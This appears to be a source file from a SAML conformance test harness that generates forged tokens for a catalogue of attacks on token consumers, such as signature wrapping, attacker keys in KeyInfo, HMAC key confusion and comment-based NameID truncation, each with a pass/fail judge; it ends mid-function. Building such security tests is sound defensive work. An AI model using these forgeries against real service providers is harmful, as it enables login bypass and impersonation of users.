// The attack catalogue for token consumers: each entry turns a scenario (IdP key, attacker keys, time) into crafted
// deliveries, and says how a consumer's answer is judged. Constructions are pure functions of the scenario, so the
// very same code writes the vectors in vectors/security and drives the live cases.
//
// Judges:
//   reject     — the token is forged or invalid: any acceptance is a FAIL.
//   identity   — forged content sits beside authentic content: FAIL when the consumer reports the attacker's
//                identity; accepting it with the legitimate identity is what a consumer that reads only the signed
//                element does, and is noted.
//   truncation — the signed identity is longer than what a truncating reader sees: FAIL only when the consumer
//                reports the truncated (attacker's) identity.
//   observe    — a legitimately signed token with a questionable property: acceptance is recorded, never a FAIL.
//   accept     — a token a correct consumer accepts (inside its declared skew): a refusal is recorded.
//   replay     — the same valid token twice: FAIL when the second delivery is accepted.
import { createHash, createPublicKey } from "node:crypto";
import { DSIG, NS } from "../../protocol/namespaces.ts";
import { derToPem } from "../../protocol/x509/certificate.ts";
import { excC14n } from "../../protocol/dsig/c14n.ts";
import { signAssertion } from "../../protocol/saml/build.ts";
import { MORE, craftSignature, envelopedDigest, serializeNode, type CraftKey, type CraftSignature } from "./dsig-craft.ts";
import {
  CLAIM,
  EVIL,
  LEGIT,
  TRUNCATED,
  envelope,
  evilUnsigned,
  idpSigned,
  parseOwn,
  samlResponseEnvelope,
  tokenSpec,
  type DeliveryKind,
  type SamlVersion,
  type Scenario,
} from "./scenario.ts";

export type Judge = "reject" | "identity" | "truncation" | "observe" | "accept" | "replay";

export interface Variant {
  name: string;
  /** The delivery body (assertion, wresult or SAML Response, as the kind asked). */
  xml: string;
}

export interface Attack {
  /** "<class>/<name>"; the case id is "security/<class>/<name>". */
  id: string;
  title: string;
  requirements: string[];
  judge: Judge;
  /** A published vulnerability of this class, for the report. */
  cve?: string;
  /** Delivery kinds the construction needs (default: any). */
  kinds?: DeliveryKind[];
  /** SAML versions it applies to (default: both). */
  versions?: SamlVersion[];
  /** Needs the consumer's declared skew / recipient. */
  needsSkew?: boolean;
  needsRecipient?: boolean;
  craft(s: Scenario, kind: DeliveryKind, version: SamlVersion): Variant[];
}

// ---- DOM helpers ------------------------------------------------------------------------------------------------

function samlNs(v: SamlVersion): string {
  return v === "2.0" ? NS.saml2 : NS.saml11;
}

function kids(el: Element): Element[] {
  const out: Element[] = [];
  for (let c = el.firstChild; c; c = c.nextSibling) if (c.nodeType === 1) out.push(c as Element);
  return out;
}

function child(el: Element, ns: string, local: string): Element | undefined {
  return kids(el).find((k) => k.namespaceURI === ns && k.localName === local);
}

function all(root: Element, ns: string, local: string): Element[] {
  const out: Element[] = [];
  const walk = (e: Element) => {
    if (e.namespaceURI === ns && e.localName === local) out.push(e);
    for (const k of kids(e)) walk(k);
  };
  walk(root);
  return out;
}

function signatureOf(a: Element): Element {
  const s = child(a, NS.ds, "Signature");
  if (!s) throw new Error("assertion carries no ds:Signature");
  return s;
}

function idOf(a: Element, v: SamlVersion): string {
  return a.getAttribute(v === "2.0" ? "ID" : "AssertionID")!;
}

function setText(el: Element, text: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument!.createTextNode(text));
}

/** Rewrite who the assertion is about: NameID / NameIdentifier and the e-mail and role claims. */
function setIdentity(a: Element, v: SamlVersion, subject: string, role: string): void {
  const ns = samlNs(v);
  for (const n of all(a, ns, v === "2.0" ? "NameID" : "NameIdentifier")) setText(n, subject);
  for (const at of all(a, ns, "Attribute")) {
    const name = v === "2.0" ? at.getAttribute("Name") : `${at.getAttribute("AttributeNamespace")}/${at.getAttribute("AttributeName")}`;
    const value = name === CLAIM.email ? subject : name === CLAIM.role ? role : undefined;
    if (value !== undefined) for (const av of all(at, ns, "AttributeValue")) setText(av, value);
  }
}

/** Where an assertion's enveloped ds:Signature goes: after Issuer (2.0), last (1.1). */
function signatureSlot(a: Element, v: SamlVersion): Node | null {
  return v === "2.0" ? (kids(a)[1] ?? null) : null;
}

function importXml(doc: Document, xml: string): Element {
  return doc.importNode(parseOwn(xml).documentElement!, true) as Element;
}

function legitSigned(s: Scenario, v: SamlVersion): string {
  return idpSigned(s, tokenSpec(s, v));
}

/** The legitimate signed token, parsed: the starting point of most mutations. */
function legitDom(s: Scenario, v: SamlVersion): { doc: Document; a: Element } {
  const doc = parseOwn(legitSigned(s, v));
  return { doc, a: doc.documentElement! };
}

function out(s: Scenario, kind: DeliveryKind, v: SamlVersion, name: string, tokens: (string | Element)[]): Variant {
  return { name, xml: envelope(s, kind, v, tokens.map((t) => (typeof t === "string" ? t : serializeNode(t)))) };
}

function x509KeyInfo(der: Buffer): string {
  return `<ds:X509Data><ds:X509Certificate>${der.toString("base64")}</ds:X509Certificate></ds:X509Data>`;
}

/** Replace the assertion's signature by a crafted one over the assertion (enveloped + exc-c14n unless told). */
function resign(a: Element, v: SamlVersion, over: Partial<CraftSignature> & { key: CraftKey }, transforms?: CraftSignature["references"][0]["transforms"], digestAlgorithm?: string): void {
  const old = child(a, NS.ds, "Signature");
  if (old) a.removeChild(old);
  craftSignature(a, signatureSlot(a, v), {
    signatureAlgorithm: DSIG.rsaSha256,
    keyInfo: undefined,
    ...over,
    references: over.references ?? [
      { uri: `#${idOf(a, v)}`, transforms: transforms ?? [{ algorithm: DSIG.envelopedSignature }, { algorithm: DSIG.excC14n }], target: a, digestAlgorithm: digestAlgorithm ?? DSIG.sha256 },
    ],
  });
}

/** The legitimate assertion signed again with the IdP's own key, its KeyInfo naming the certificate `certDer`. */
function resignedNaming(s: Scenario, v: SamlVersion, certDer: Buffer): Element {
  const { a } = legitDom(s, v);
  resign(a, v, { key: { kind: "rsa", privateKey: s.idp.key.privateKey }, keyInfo: x509KeyInfo(certDer) });
  return a;
}

function evilDom(s: Scenario, v: SamlVersion, o: Parameters<typeof evilUnsigned>[2] = {}): { doc: Document; a: Element } {
  const doc = parseOwn(evilUnsigned(s, v, o));
  return { doc, a: doc.documentElement! };
}

/** The Advice slot: right after Conditions (both versions). */
function insertAdvice(a: Element, v: SamlVersion, content: Element): void {
  const ns = samlNs(v);
  const advice = a.ownerDocument!.createElementNS(ns, v === "2.0" ? "saml2:Advice" : "saml:Advice");
  advice.appendChild(content);
  const cond = child(a, ns, "Conditions")!;
  a.insertBefore(advice, cond.nextSibling);
}

const CONTAINERS: DeliveryKind[] = ["wresult", "samlResponse"];
const SHA256 = (s: string) => createHash("sha256").update(s).digest();

// ---- the catalogue ----------------------------------------------------------------------------------------------

export const ATTACKS: Attack[] = [
  // ---- signature exclusion ----
  {
    id: "signature-exclusion/removed",
    title: "An assertion whose signature was removed (and identity changed) is refused",
    requirements: ["SAML-SIGNED"],
    judge: "reject",
    craft(s, kind, v) {
      const { a } = legitDom(s, v);
      setIdentity(a, v, EVIL.subject, EVIL.role);
      a.removeChild(signatureOf(a));
      return [out(s, kind, v, "signature removed", [a])];
    },
  },
  {
    id: "signature-exclusion/empty-signature-value",
    title: "An assertion with an empty SignatureValue (identity changed, digest recomputed) is refused",
    requirements: ["SAML-SIGNED"],
    judge: "reject",
    craft(s, kind, v) {
      const variants: Variant[] = [];
      for (const recompute of [false, true]) {
        const { a } = legitDom(s, v);
        setIdentity(a, v, EVIL.subject, EVIL.role);
        const sig = signatureOf(a);
        const sv = all(sig, NS.ds, "SignatureValue")[0]!;
        while (sv.firstChild) sv.removeChild(sv.firstChild);
        if (recompute) setText(all(sig, NS.ds, "DigestValue")[0]!, envelopedDigest(a, sig));
        variants.push(out(s, kind, v, recompute ? "empty SignatureValue, digest recomputed" : "empty SignatureValue", [a]));
      }
      return variants;
    },
  },
  {
    id: "signature-exclusion/signature-on-other-element",
    title: "An assertion whose only (valid, IdP-key) signature covers a different element is refused",
    requirements: ["SAML-SIGNED", "SAML-SIG-ENVELOPED"],
    judge: "reject",
    craft(s, kind, v) {
      const { a } = evilDom(s, v);
      const target = child(a, samlNs(v), "Conditions")!;
      target.setAttribute("ID", s.newId());
      craftSignature(a, signatureSlot(a, v), {
        signatureAlgorithm: DSIG.rsaSha256,
        references: [{ uri: `#${target.getAttribute("ID")}`, transforms: [{ algorithm: DSIG.excC14n }], target }],
        key: { kind: "rsa", privateKey: s.idp.key.privateKey },
        keyInfo: x509KeyInfo(s.idp.key.certDer),
      });
      return [out(s, kind, v, "signature references Conditions only", [a])];
    },
  },

  // ---- key trust ----
  {
    id: "key-trust/attacker-certificate-in-keyinfo",
    title: "An assertion re-signed with an attacker key whose certificate sits in KeyInfo is refused",
    requirements: ["SAML-SIG-KEY-TRUSTED"],
    cve: "CVE-2024-32962",
    judge: "reject",
    craft(s, kind, v) {
      return [out(s, kind, v, "attacker X509Certificate in KeyInfo", [signAssertion(tokenSpec(s, v, { subject: EVIL.subject, role: EVIL.role }), s.keys.attacker)])];
    },
  },
  {
    id: "key-trust/attacker-keyvalue",
    title: "An assertion signed with an attacker RSA key given as ds:KeyValue is refused",
    requirements: ["SAML-SIG-KEY-TRUSTED"],
    judge: "reject",
    craft(s, kind, v) {
      const jwk = createPublicKey(s.keys.attacker.privateKey).export({ format: "jwk" });
      const b64 = (u?: string) => Buffer.from(u ?? "", "base64url").toString("base64");
      const { a } = evilDom(s, v);
      resign(a, v, {
        key: { kind: "rsa", privateKey: s.keys.attacker.privateKey },
        keyInfo: `<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${b64(jwk.n)}</ds:Modulus><ds:Exponent>${b64(jwk.e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`,
      });
      return [out(s, kind, v, "attacker RSAKeyValue in KeyInfo", [a])];
    },
  },
  {
    id: "key-trust/cloned-certificate",
    title: "An assertion signed with a new key in a certificate cloning the IdP's subject, issuer and serial is refused",
    requirements: ["SAML-SIG-KEY-TRUSTED"],
    judge: "reject",
    craft(s, kind, v) {
      return [out(s, kind, v, "cloned certificate in KeyInfo", [signAssertion(tokenSpec(s, v, { subject: EVIL.subject, role: EVIL.role }), s.keys.cloned)])];
    },
  },
  {
    id: "key-trust/expired-certificate",
    title: "A token signed with the IdP key but naming an expired certificate for it in KeyInfo (observed: pinned-key consumers may accept)",
    requirements: ["SAML-KEYINFO-OPTIONAL"],
    judge: "observe",
    craft(s, kind, v) {
      return [out(s, kind, v, "expired certificate in KeyInfo", [resignedNaming(s, v, s.keys.expired.certDer)])];
    },
  },
  {
    id: "key-trust/wrong-usage-certificate",
    title: "A token signed with the IdP key but naming a certificate without digitalSignature usage (observed)",
    requirements: ["SAML-KEYINFO-OPTIONAL"],
    judge: "observe",
    craft(s, kind, v) {
      return [out(s, kind, v, "keyEncipherment-only certificate in KeyInfo", [resignedNaming(s, v, s.keys.wrongUsage.certDer)])];
    },
  },

  // ---- algorithm and key confusion ----
  {
    id: "algorithm/hmac-keyed-with-public-key",
    title: "An HMAC signature keyed with the IdP's public certificate or key bytes is refused (key confusion)",
    requirements: ["SAML-SIG-KEY-TRUSTED", "SAML-SIG-ALG"],
    judge: "reject",
    craft(s, kind, v) {
      const pem = derToPem(s.idp.key.certDer);
      const spki = createPublicKey(s.idp.key.privateKey).export({ type: "spki", format: "pem" }).toString();
      const keys: [string, Buffer][] = [
        ["certificate PEM", Buffer.from(pem)],
        ["certificate PEM without final newline", Buffer.from(pem.trimEnd())],
        ["certificate DER", s.idp.key.certDer],
        ["certificate base64", Buffer.from(s.idp.key.certDer.toString("base64"))],
        ["public key PEM", Buffer.from(spki)],
      ];
      return keys.map(([name, secret]) => {
        const { a } = evilDom(s, v);
        resign(a, v, { signatureAlgorithm: DSIG.hmacSha256, key: { kind: "hmac", secret }, keyInfo: x509KeyInfo(s.idp.key.certDer) });
        return out(s, kind, v, `hmac-sha256 keyed with the ${name}`, [a]);
      });
    },
  },
  {
    id: "algorithm/hmac-output-length",
    title: "An HMAC signature truncated by HMACOutputLength (0 or 8 bits) is refused",
    requirements: ["SAML-SIG-KEY-TRUSTED", "SAML-SIG-ALG"],
    cve: "CVE-2009-0217",
    judge: "reject",
    craft(s, kind, v) {
      const pem = Buffer.from(derToPem(s.idp.key.certDer));
      const variants: Variant[] = [];
      for (const bits of [0, 8]) {
        const { a } = evilDom(s, v);
        resign(a, v, {
          signatureAlgorithm: DSIG.hmacSha1,
          signatureMethodInner: `<ds:HMACOutputLength>${bits}</ds:HMACOutputLength>`,
          key: bits === 0 ? { kind: "none", signatureValue: "" } : { kind: "hmac", secret: pem, outputBits: bits },
          keyInfo: x509KeyInfo(s.idp.key.certDer),
        });
        variants.push(out(s, kind, v, `HMACOutputLength ${bits}`, [a]));
      }
      return variants;
    },
  },
  {
    id: "algorithm/sha1-downgrade",
    title: "A token the IdP signed with rsa-sha1 and a SHA-1 digest (observed: the harness policy wants SHA-256)",
    requirements: ["SAML-SIG-ALG"],
    judge: "observe",
    craft(s, kind, v) {
      return [out(s, kind, v, "rsa-sha1 / sha1", [idpSigned(s, tokenSpec(s, v), { signatureAlgorithm: DSIG.rsaSha1, digestAlgorithm: DSIG.sha1 })])];
    },
  },
  {
    id: "algorithm/md5-downgrade",
    title: "A token the IdP signed with rsa-md5 and an MD5 digest (observed)",
    requirements: ["SAML-SIG-ALG"],
    judge: "observe",
    craft(s, kind, v) {
      const { a } = legitDom(s, v);
      resign(a, v, { signatureAlgorithm: MORE.rsaMd5, key: { kind: "rsa", privateKey: s.idp.key.privateKey }, keyInfo: x509KeyInfo(s.idp.key.certDer) }, undefined, MORE.md5);
      return [out(s, kind, v, "rsa-md5 / md5", [a])];
    },
  },
  {
    id: "algorithm/c14n-swapped",
    title: "A token whose CanonicalizationMethod was swapped after signing (identity changed, digest recomputed) is refused",
    requirements: ["SAML-SIGNED"],
    judge: "reject",
    craft(s, kind, v) {
      return [DSIG.c14n, DSIG.excC14nWithComments, "urn:wsconform:unknown-c14n"].map((alg) => {
        const { a } = legitDom(s, v);
        setIdentity(a, v, EVIL.subject, EVIL.role);
        const sig = signatureOf(a);
        all(sig, NS.ds, "CanonicalizationMethod")[0]!.setAttribute("Algorithm", alg);
        setText(all(sig, NS.ds, "DigestValue")[0]!, envelopedDigest(a, sig));
        return out(s, kind, v, `CanonicalizationMethod ${alg}`, [a]);
      });
    },
  },
  {
    id: "algorithm/symmetric-key-in-token",
    title: "An HMAC signature whose key is supplied inside the token's KeyInfo is refused",
    requirements: ["SAML-SIG-KEY-TRUSTED"],
    judge: "reject",
    craft(s, kind, v) {
      const secret = SHA256("wsconform attacker secret");
      const b64 = secret.toString("base64");
      const infos: [string, string][] = [
        ["wst:BinarySecret (1.3)", `<wst:BinarySecret xmlns:wst="http://docs.oasis-open.org/ws-sx/ws-trust/200512">${b64}</wst:BinarySecret>`],
        ["wst:BinarySecret (2005)", `<t:BinarySecret xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust">${b64}</t:BinarySecret>`],
        ["ds:KeyName", `<ds:KeyName>${b64}</ds:KeyName>`],
      ];
      return infos.map(([name, keyInfo]) => {
        const { a } = evilDom(s, v);
        resign(a, v, { signatureAlgorithm: DSIG.hmacSha256, key: { kind: "hmac", secret }, keyInfo });
        return out(s, kind, v, `hmac-sha256 with the key in ${name}`, [a]);
      });
    },
  },

  // ---- signature wrapping ----
  {
    id: "xsw/evil-before-signed",
    title: "A forged assertion placed before the signed one in the same container is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    kinds: CONTAINERS,
    craft(s, kind, v) {
      return [out(s, kind, v, "forged, then signed", [evilUnsigned(s, v), legitSigned(s, v)])];
    },
  },
  {
    id: "xsw/evil-after-signed",
    title: "A forged assertion placed after the signed one in the same container is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    kinds: CONTAINERS,
    craft(s, kind, v) {
      return [out(s, kind, v, "signed, then forged", [legitSigned(s, v), evilUnsigned(s, v)])];
    },
  },
  {
    id: "xsw/evil-wraps-signed",
    title: "A forged assertion wrapping the signed one (with or without a copy of its signature) is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      return [false, true].map((copySig) => {
        const { a: legit } = legitDom(s, v);
        const { doc, a } = evilDom(s, v);
        if (copySig) a.insertBefore(doc.importNode(signatureOf(legit), true), signatureSlot(a, v));
        a.appendChild(doc.importNode(legit, true));
        return out(s, kind, v, copySig ? "signed assertion as last child, signature copied to the forged one" : "signed assertion as last child", [a]);
      });
    },
  },
  {
    id: "xsw/signed-in-advice",
    title: "A forged assertion carrying the signed one in its Advice is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      return [false, true].map((copySig) => {
        const { a: legit } = legitDom(s, v);
        const { doc, a } = evilDom(s, v);
        if (copySig) a.insertBefore(doc.importNode(signatureOf(legit), true), signatureSlot(a, v));
        insertAdvice(a, v, doc.importNode(legit, true) as Element);
        return out(s, kind, v, copySig ? "signed assertion in Advice, signature copied" : "signed assertion in Advice", [a]);
      });
    },
  },
  {
    id: "xsw/signed-in-signature-object",
    title: "A forged assertion whose (copied) signature holds the signed assertion in ds:Object is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      const { a: legit } = legitDom(s, v);
      const { doc, a } = evilDom(s, v);
      const sig = doc.importNode(signatureOf(legit), true) as Element;
      const obj = doc.createElementNS(NS.ds, "ds:Object");
      obj.appendChild(doc.importNode(legit, true));
      sig.appendChild(obj);
      a.insertBefore(sig, signatureSlot(a, v));
      return [out(s, kind, v, "signed assertion inside ds:Object of the copied signature", [a])];
    },
  },
  {
    id: "xsw/evil-in-signature-object",
    title: "A forged assertion hidden in a ds:Object of the genuine signature is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      const { doc, a } = legitDom(s, v);
      const obj = doc.createElementNS(NS.ds, "ds:Object");
      obj.appendChild(importXml(doc, evilUnsigned(s, v)));
      signatureOf(a).appendChild(obj);
      return [out(s, kind, v, "forged assertion in ds:Object (signature still valid)", [a])];
    },
  },
  {
    id: "xsw/signed-in-extensions",
    title: "A SAML Response whose signed assertion is hidden in samlp:Extensions and whose assertion is forged is refused",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    kinds: ["samlResponse"],
    versions: ["2.0"],
    craft(s, _kind, v) {
      return [{ name: "signed assertion in Extensions", xml: samlResponseEnvelope(s, [evilUnsigned(s, v)], legitSigned(s, v)) }];
    },
  },
  {
    id: "xsw/duplicate-id",
    title: "Two assertions with the same ID (the forged one carrying the copied signature) are not taken as the forged identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    kinds: CONTAINERS,
    craft(s, kind, v) {
      const { a: legit } = legitDom(s, v);
      const id = idOf(legit, v);
      const { doc, a } = evilDom(s, v, { id });
      a.insertBefore(doc.importNode(signatureOf(legit), true), signatureSlot(a, v));
      const legitXml = serializeNode(legit);
      return [out(s, kind, v, "forged (same ID, copied signature) first", [a, legitXml]), out(s, kind, v, "forged (same ID, copied signature) last", [legitXml, a])];
    },
  },
  {
    id: "xsw/id-attribute-confusion",
    title: "A forged assertion naming the signed one's ID in another ID-like attribute (id, Id, AssertionID) is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      return (v === "2.0" ? ["id", "Id", "AssertionID"] : ["ID", "id", "Id"]).map((attrName) => {
        const { a: legit } = legitDom(s, v);
        const { doc, a } = evilDom(s, v);
        a.setAttribute(attrName, idOf(legit, v));
        a.insertBefore(doc.importNode(signatureOf(legit), true), signatureSlot(a, v));
        insertAdvice(a, v, doc.importNode(legit, true) as Element);
        return out(s, kind, v, `forged assertion with ${attrName}=<signed ID>, signed one in Advice`, [a]);
      });
    },
  },
  {
    id: "xsw/signature-inside-signed-element",
    title: "A genuine token whose signature was moved deeper inside the signed assertion keeps its legitimate identity",
    requirements: ["SAML-SIG-ENVELOPED", "SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      const { a } = legitDom(s, v);
      const sig = signatureOf(a);
      a.removeChild(sig);
      const subject = all(a, samlNs(v), "Subject")[0]!;
      subject.appendChild(sig);
      return [out(s, kind, v, "signature moved into Subject", [a])];
    },
  },

  // ---- SignedInfo / Reference confusion ----
  {
    id: "signedinfo/comment-in-digestvalue",
    title: "A forged assertion whose DigestValue hides the forged digest in a comment is refused",
    requirements: ["SAML-SIGNED", "SAML-SIG-COVERS"],
    cve: "CVE-2025-29775",
    judge: "reject",
    craft(s, kind, v) {
      const { doc, a } = legitDom(s, v);
      setIdentity(a, v, EVIL.subject, EVIL.role);
      const sig = signatureOf(a);
      const dv = all(sig, NS.ds, "DigestValue")[0]!;
      dv.insertBefore(doc.createComment(envelopedDigest(a, sig)), dv.firstChild);
      return [out(s, kind, v, "<!--forged digest-->genuine digest", [a])];
    },
  },
  {
    id: "signedinfo/two-signedinfo",
    title: "A forged assertion whose signature holds a second SignedInfo (with a Reference to the forged content) is refused",
    requirements: ["SAML-SIGNED", "SAML-SIG-COVERS"],
    cve: "CVE-2025-29774",
    judge: "reject",
    craft(s, kind, v) {
      const variants: Variant[] = [];
      // The same assertion, changed, with a second SignedInfo whose digest matches the change (either order).
      for (const forgedFirst of [true, false]) {
        const { a } = legitDom(s, v);
        setIdentity(a, v, EVIL.subject, EVIL.role);
        const sig = signatureOf(a);
        const si = all(sig, NS.ds, "SignedInfo")[0]!;
        const forged = si.cloneNode(true) as Element;
        setText(all(forged, NS.ds, "DigestValue")[0]!, envelopedDigest(a, sig));
        sig.insertBefore(forged, forgedFirst ? si : si.nextSibling);
        variants.push(out(s, kind, v, forgedFirst ? "forged SignedInfo first" : "forged SignedInfo second", [a]));
      }
      // A forged assertion carrying the genuine signature (its SignedInfo still verifies and its Reference still
      // finds the untouched original, kept inside) plus a second SignedInfo referencing the forged assertion.
      for (const where of ["Advice", "Object"] as const) {
        const { a: legit } = legitDom(s, v);
        const genuine = signatureOf(legit);
        legit.removeChild(genuine);
        const { doc, a } = evilDom(s, v);
        const sig = doc.importNode(genuine, true) as Element;
        a.insertBefore(sig, signatureSlot(a, v));
        const original = doc.importNode(legit, true) as Element;
        if (where === "Advice") insertAdvice(a, v, original);
        else {
          const obj = doc.createElementNS(NS.ds, "ds:Object");
          obj.appendChild(original);
          sig.appendChild(obj);
        }
        const si = all(sig, NS.ds, "SignedInfo")[0]!;
        const forged = si.cloneNode(true) as Element;
        all(forged, NS.ds, "Reference")[0]!.setAttribute("URI", `#${idOf(a, v)}`);
        sig.insertBefore(forged, si.nextSibling);
        setText(all(forged, NS.ds, "DigestValue")[0]!, envelopedDigest(a, sig));
        variants.push(out(s, kind, v, `genuine SignedInfo + SignedInfo over the forged assertion, original in ${where}`, [a]));
      }
      return variants;
    },
  },
  {
    id: "signedinfo/extra-reference",
    title: "A genuine token whose signature carries an extra Reference keeps its legitimate identity (or is refused)",
    requirements: ["SAML-SIG-ENVELOPED", "SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      const { a } = legitDom(s, v);
      const cond = child(a, samlNs(v), "Conditions")!;
      cond.setAttribute("ID", s.newId());
      const env = [{ algorithm: DSIG.envelopedSignature }, { algorithm: DSIG.excC14n }];
      resign(a, v, {
        key: { kind: "rsa", privateKey: s.idp.key.privateKey },
        keyInfo: x509KeyInfo(s.idp.key.certDer),
        references: [
          { uri: `#${idOf(a, v)}`, transforms: env, target: a },
          { uri: `#${cond.getAttribute("ID")}`, transforms: [{ algorithm: DSIG.excC14n }], target: cond },
        ],
      });
      return [out(s, kind, v, "References #assertion and #Conditions", [a])];
    },
  },
  {
    id: "signedinfo/xpath-transform",
    title: "A token signed with an XPath transform that leaves the Subject and statements unsigned is not taken as the forged identity",
    requirements: ["SAML-SIG-COVERS", "SAML-TRANSFORMS-REJECT"],
    judge: "identity",
    craft(s, kind, v) {
      const ns = samlNs(v);
      const p = v === "2.0" ? "saml2" : "saml";
      const excluded = v === "2.0" ? ["Subject", "AuthnStatement", "AttributeStatement"] : ["AuthenticationStatement", "AttributeStatement"];
      const expr = excluded.map((e) => `not(ancestor-or-self::${p}:${e})`).join(" and ");
      const { a } = legitDom(s, v);
      resign(a, v, {
        key: { kind: "rsa", privateKey: s.idp.key.privateKey },
        keyInfo: x509KeyInfo(s.idp.key.certDer),
        references: [
          {
            uri: `#${idOf(a, v)}`,
            transforms: [{ algorithm: DSIG.envelopedSignature }, { algorithm: MORE.xpath, inner: `<ds:XPath xmlns:${p}="${ns}">${expr}</ds:XPath>` }, { algorithm: DSIG.excC14n }],
            octets: (sig) => {
              const copy = parseOwn(serializeNode(a)).documentElement!;
              for (const k of kids(copy)) {
                if ((k.namespaceURI === ns && excluded.includes(k.localName)) || (k.namespaceURI === NS.ds && k.localName === "Signature")) copy.removeChild(k);
              }
              void sig;
              // The exclusive canonical form of the copy without the filtered subtrees is the node-set's form.
              return excC14n(copy);
            },
          },
        ],
      });
      setIdentity(a, v, EVIL.subject, EVIL.role);
      return [out(s, kind, v, "XPath filter excludes Subject and statements; identity then changed", [a])];
    },
  },
  {
    id: "signedinfo/xslt-transform",
    title: "A token signed with an XSLT transform (observed: verifiers may refuse transforms other than enveloped + exc-c14n)",
    requirements: ["SAML-TRANSFORMS-REJECT"],
    judge: "observe",
    craft(s, kind, v) {
      const { a } = legitDom(s, v);
      const xsl =
        `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">` +
        `<xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template></xsl:stylesheet>`;
      resign(
        a,
        v,
        { key: { kind: "rsa", privateKey: s.idp.key.privateKey }, keyInfo: x509KeyInfo(s.idp.key.certDer) },
        [{ algorithm: DSIG.envelopedSignature }, { algorithm: MORE.xslt, inner: xsl }, { algorithm: DSIG.excC14n }],
      );
      return [out(s, kind, v, "identity XSLT stylesheet transform", [a])];
    },
  },

  // ---- comment / PI / CDATA / entity truncation ----
  ...(
    [
      ["comment-in-nameid", "a comment", "<!---->", true],
      ["cdata-in-nameid", "a CDATA section", "CDATA", true],
      ["pi-in-nameid", "a processing instruction", "<?wsc x?>", true],
      ["entity-in-nameid", "a character reference", "&#46;", true],
      ["comment-in-attribute", "a comment in the e-mail claim only", "<!---->", false],
    ] as const
  ).map(
    ([name, what, inj, inNameId]): Attack => ({
      id: `truncation/${name}`,
      title: `A signed identity split by ${what} is read in full (or refused), never truncated`,
      requirements: ["SAML-SIG-COVERS"],
      cve: name === "comment-in-nameid" ? "CVE-2017-11427" : undefined,
      judge: "truncation",
      craft(s, kind, v) {
        const signed = idpSigned(s, tokenSpec(s, v, inNameId ? { subject: TRUNCATED.full } : { email: TRUNCATED.full }));
        const head = TRUNCATED.full.slice(0, TRUNCATED.cutAt);
        const tail = TRUNCATED.full.slice(TRUNCATED.cutAt);
        const split = inj === "CDATA" ? `${head}<![CDATA[${tail}]]>` : inj === "&#46;" ? `${head}&#46;${tail.slice(1)}` : `${head}${inj}${tail}`;
        return [{ name: `${what} after ${JSON.stringify(head)}`, xml: envelope(s, kind, v, [signed.split(`>${TRUNCATED.full}<`).join(`>${split}<`)]) }];
      },
    }),
  ),

  // ---- parser differentials ----
  {
    id: "parser-differential/whitespace-nodes",
    title: "A genuine token with whitespace text inserted between its signed elements is refused or keeps its legitimate identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      const { doc, a } = legitDom(s, v);
      for (const k of kids(a)) if (!(k.namespaceURI === NS.ds)) a.insertBefore(doc.createTextNode("\n  "), k);
      return [out(s, kind, v, "newline + indentation between the assertion's children", [a])];
    },
  },
  {
    id: "parser-differential/namespace-redefinition",
    title: "A look-alike assertion whose saml prefix is bound to a foreign namespace is not taken as the identity",
    requirements: ["SAML-SIG-COVERS"],
    judge: "identity",
    craft(s, kind, v) {
      const ns = samlNs(v);
      const lookAlike = evilUnsigned(s, v).split(`"${ns}"`).join(`"urn:wsconform:not-saml"`);
      if (kind === "assertion") {
        const { doc, a } = legitDom(s, v);
        const obj = doc.createElementNS(NS.ds, "ds:Object");
        obj.appendChild(importXml(doc, lookAlike));
        signatureOf(a).appendChild(obj);
        return [out(s, kind, v, "foreign-namespace look-alike in ds:Object", [a])];
      }
      return [out(s, kind, v, "foreign-namespace look-alike before the signed assertion", [lookAlike, legitSigned(s, v)])];
    },
  },

  // ---- token semantics ----
  {
    id: "semantics/wrong-audience",
    title: "A genuine token for another audience is refused",
    requirements: ["SAML-AUDIENCE"],
    judge: "reject",
    craft(s, kind, v) {
      return [out(s, kind, v, "audience urn:wsconform:some-other-rp", [idpSigned(s, tokenSpec(s, v, { audiences: ["urn:wsconform:some-other-rp"] }))])];
    },
  },
  {
    id: "semantics/wrong-issuer",
    title: "A token signed with the trusted key but naming another issuer is refused",
    requirements: ["SAML-ISSUER-TRUSTED"],
    judge: "reject",
    craft(s, kind, v) {
      return [out(s, kind, v, "issuer urn:wsconform:some-other-idp", [idpSigned(s, tokenSpec(s, v, { issuer: "urn:wsconform:some-other-idp" }))])];
    },
  },
  {
    id: "semantics/wrong-recipient",
    title: "A SAML 2.0 bearer token whose SubjectConfirmationData Recipient is another URL is refused",
    requirements: ["SAML-SC-BEARER-DATA"],
    judge: "reject",
    versions: ["2.0"],
    needsRecipient: true,
    craft(s, kind, v) {
      return [out(s, kind, v, "Recipient https://elsewhere.wsconform.test/acs", [idpSigned(s, tokenSpec(s, v, { recipient: "https://elsewhere.wsconform.test/acs" }))])];
    },
  },
  {
    id: "semantics/confirmation-expired",
    title: "A SAML 2.0 bearer token whose SubjectConfirmationData NotOnOrAfter passed (beyond skew) is refused",
    requirements: ["SAML-SC-BEARER-DATA"],
    judge: "reject",
    versions: ["2.0"],
    craft(s, kind, v) {
      const past = s.now - beyondSkewMs(s);
